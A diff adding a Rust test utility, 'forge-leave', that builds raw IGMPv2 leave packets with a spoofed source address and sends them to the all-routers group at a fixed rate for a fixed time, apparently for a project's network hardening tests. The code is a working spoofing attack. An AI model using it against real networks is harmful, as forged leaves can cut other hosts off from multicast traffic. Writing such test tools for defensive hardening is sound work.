@@ -1,0 +1,117 @@
+//! Forged IGMP leaves for the hardening tests: IGMPv2 leaves for a group,
+//! sent with another host's source address (as anyone on a segment can),
+//! at a fixed rate for a fixed time, bounded both ways.
+//! Usage: forge-leave SRC GROUP IFACE PER_SECOND SECONDS
+//! Prints one JSON line: leaves sent.
+use std::{
+    ffi::CString,
+    mem::size_of,
+    net::Ipv4Addr,
+    os::fd::{AsRawFd, FromRawFd, OwnedFd},
+    process::ExitCode,
+    thread::sleep,
+    time::{Duration, Instant},
+};
+
+use lb_common::wire::{IGMP_V2_LEAVE, igmp_v2_message, internet_checksum};
+
+/// All-routers group, where IGMPv2 leaves go.
+const ALL_ROUTERS: Ipv4Addr = Ipv4Addr::new(224, 0, 0, 2);
+
+fn main() -> ExitCode {
+    let args: Vec<String> = std::env::args().skip(1).collect();
+    let usage = || {
+        eprintln!("error: usage: forge-leave SRC GROUP IFACE PER_SECOND SECONDS");
+        ExitCode::from(2)
+    };
+    let [src, group, iface, rate, seconds] = args.as_slice() else {
+        return usage();
+    };
+    let (Ok(src), Ok(group), Ok(rate), Ok(seconds)) = (
+        src.parse::<Ipv4Addr>(),
+        group.parse::<Ipv4Addr>(),
+        rate.parse::<u32>(),
+        seconds.parse::<u64>(),
+    ) else {
+        return usage();
+    };
+    let Ok(name) = CString::new(iface.as_str()) else {
+        return usage();
+    };
+    // SAFETY: a valid NUL-terminated name.
+    let ifindex = unsafe { libc::if_nametoindex(name.as_ptr()) };
+    if ifindex == 0 || rate == 0 {
+        return usage();
+    }
+    // SAFETY: plain socket creation; the fd is owned below.
+    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
+    if fd < 0 {
+        eprintln!("error: raw socket: {}", std::io::Error::last_os_error());
+        return ExitCode::FAILURE;
+    }
+    // SAFETY: fd is a fresh socket we own.
+    let socket = unsafe { OwnedFd::from_raw_fd(fd) };
+    let mreqn = libc::ip_mreqn {
+        imr_multiaddr: libc::in_addr { s_addr: 0 },
+        imr_address: libc::in_addr { s_addr: 0 },
+        imr_ifindex: ifindex as libc::c_int,
+    };
+    // SAFETY: the pointer and length describe `mreqn`.
+    let rc = unsafe {
+        libc::setsockopt(
+            socket.as_raw_fd(),
+            libc::IPPROTO_IP,
+            libc::IP_MULTICAST_IF,
+            (&raw const mreqn).cast(),
+            size_of::<libc::ip_mreqn>() as libc::socklen_t,
+        )
+    };
+    if rc != 0 {
+        eprintln!(
+            "error: IP_MULTICAST_IF: {}",
+            std::io::Error::last_os_error()
+        );
+        return ExitCode::FAILURE;
+    }
+    let mut packet = [0u8; 20 + 8];
+    packet[..20].copy_from_slice(&[
+        0x45, 0, 0, 28, 0, 0, 0, 0, 1, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
+    ]);
+    packet[12..16].copy_from_slice(&src.octets());
+    packet[16..20].copy_from_slice(&ALL_ROUTERS.octets());
+    let sum = internet_checksum(&packet[..20]);
+    packet[10..12].copy_from_slice(&sum.to_be_bytes());
+    packet[20..].copy_from_slice(&igmp_v2_message(IGMP_V2_LEAVE, 0, group.octets()));
+    let to = libc::sockaddr_in {
+        sin_family: libc::AF_INET as libc::sa_family_t,
+        sin_port: 0,
+        sin_addr: libc::in_addr {
+            s_addr: u32::from(ALL_ROUTERS).to_be(),
+        },
+        sin_zero: [0; 8],
+    };
+    let every = Duration::from_secs(1) / rate;
+    let start = Instant::now();
+    let mut sent = 0u64;
+    while start.elapsed() < Duration::from_secs(seconds) {
+        // SAFETY: the buffer and address are valid for the call.
+        let rc = unsafe {
+            libc::sendto(
+                socket.as_raw_fd(),
+                packet.as_ptr().cast(),
+                packet.len(),
+                0,
+                (&raw const to).cast(),
+                size_of::<libc::sockaddr_in>() as libc::socklen_t,
+            )
+        };
+        if rc < 0 {
+            eprintln!("error: sendto: {}", std::io::Error::last_os_error());
+            return ExitCode::FAILURE;
+        }
+        sent += 1;
+        sleep(every);
+    }
+    println!("{{\"sent\":{sent}}}");
+    ExitCode::SUCCESS
+}
